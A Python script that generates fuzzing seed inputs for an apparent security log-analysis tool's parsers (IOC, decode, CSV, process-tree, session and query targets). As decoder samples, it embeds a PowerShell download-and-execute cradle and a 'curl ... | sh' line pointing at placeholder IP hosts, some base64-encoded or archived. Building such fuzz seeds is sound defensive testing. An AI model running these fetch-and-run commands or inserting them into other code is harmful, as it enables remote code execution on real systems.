"""Seed corpora for the fuzz targets (scripts/fuzz.sh), from the repo's
fixtures and golden files, plus small archives made here with the standard
library: the fuzzer starts from inputs each parser accepts, so it reaches
past the first header check at once.

Usage: python3 scripts/fuzz_seeds.py OUT_DIR  (writes OUT_DIR/<target>/...)
Idempotent: a seed's file name is its content hash.
"""

import base64
import gzip
import hashlib
import io
import json
import sys
import tarfile
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
GOLDEN = ROOT / "tests" / "golden"
COMMITTED = ROOT / "fuzz" / "seeds"


def put(out: Path, target: str, data: bytes) -> None:
    d = out / target
    d.mkdir(parents=True, exist_ok=True)
    (d / hashlib.sha1(data).hexdigest()).write_bytes(data)


def zip_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


def tar_of(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def main(out: Path) -> None:
    cases = json.loads((GOLDEN / "ioc_cases.json").read_text())
    texts = [c["text"].encode() for c in cases if isinstance(c.get("text"), str)]
    for t in texts:
        put(out, "ioc", b"\x80" + t)
        put(out, "decode", b"\x00" + t)

    cmd = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
    enc = base64.b64encode(cmd.encode("utf-16-le")).decode()
    put(out, "decode", f"\x00powershell -nop -enc {enc}".encode())
    put(out, "decode", b"\x00" + base64.b64encode(base64.b64encode(cmd.encode()) * 2))
    put(out, "decode", b"\x02" + cmd.encode())
    payloads = [
        gzip.compress(cmd.encode()),
        zip_of([("a.ps1", cmd.encode()), ("b/c.txt", b"hello " * 20)]),
        tar_of([("x.sh", b"curl http://198.51.100.7/x | sh"), ("y.txt", b"yo")]),
        zip_of([("inner.zip", zip_of([("deep.txt", cmd.encode())]))]),
        gzip.compress(tar_of([("t.txt", cmd.encode())])),
    ]
    for p in payloads:
        put(out, "decode", b"\x01" + p)
        put(out, "decode", b"\x81" + p)

    csvs = [p.read_bytes() for p in sorted(GOLDEN.glob("*.csv"))]
    csvs.append(b"TimeGenerated,Computer,Account,Count\n2024-01-01T00:00:00Z,host1,alice,3\n"
                b"2024-01-01T01:00:00Z,host2,\"bob, jr\",4\n")
    for c in csvs:
        put(out, "table_csv", c[:65536])
        put(out, "proctree", b"\x00" + c[:65536])
        put(out, "view_bundle", b'timeline\n{"group_by": "Computer"}\n' + c[:65536])
        put(out, "view_bundle", b'matrix\n{"x": "Computer", "y": "Account"}\n' + c[:65536])
        put(out, "view_bundle", b'timeline_values\n{"y": "Count"}\n' + c[:65536])

    rows = [{"TimeGenerated": "2024-01-01T00:00:00Z", "Computer": "h1", "n": 1, "ok": True},
            {"TimeGenerated": "2024-01-02T00:00:00Z", "Computer": "h2", "n": 2.5, "x": [1, {"a": None}]}]
    put(out, "table_json", json.dumps(rows).encode())
    put(out, "table_ndjson", "\n".join(json.dumps(r) for r in rows).encode())
    tree = json.loads((GOLDEN / "proctree_issue12.json").read_text())
    put(out, "table_json", json.dumps(tree)[:65536].encode())
    put(out, "proctree", b"\x01" + "\n".join(
        json.dumps(r) for r in (tree if isinstance(tree, list) else [tree])).encode()[:65536])

    sessions = json.loads((GOLDEN / "sessions_msticpy.json").read_text())
    for block in sessions:
        for s in block.get("sessions", [])[:5]:
            put(out, "session_json", json.dumps(s).encode())
    put(out, "session_json", b'[{"name": "Set-User", "params": {"Identity": "bob", "n": 3}}, "Get-User"]')

    for y in sorted((GOLDEN / "queries_msticpy").glob("*.yaml")) + sorted((ROOT / "queries").rglob("*.yaml"))[:20]:
        put(out, "query_yaml", y.read_bytes()[:65536])

    # Arrow IPC seeds are committed (made once with pyarrow, see
    # fuzz/seeds/README.md): the standard library cannot write them.
    for target_dir in sorted(COMMITTED.iterdir()) if COMMITTED.is_dir() else []:
        if target_dir.is_dir():
            for f in sorted(target_dir.iterdir()):
                put(out, target_dir.name, f.read_bytes())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
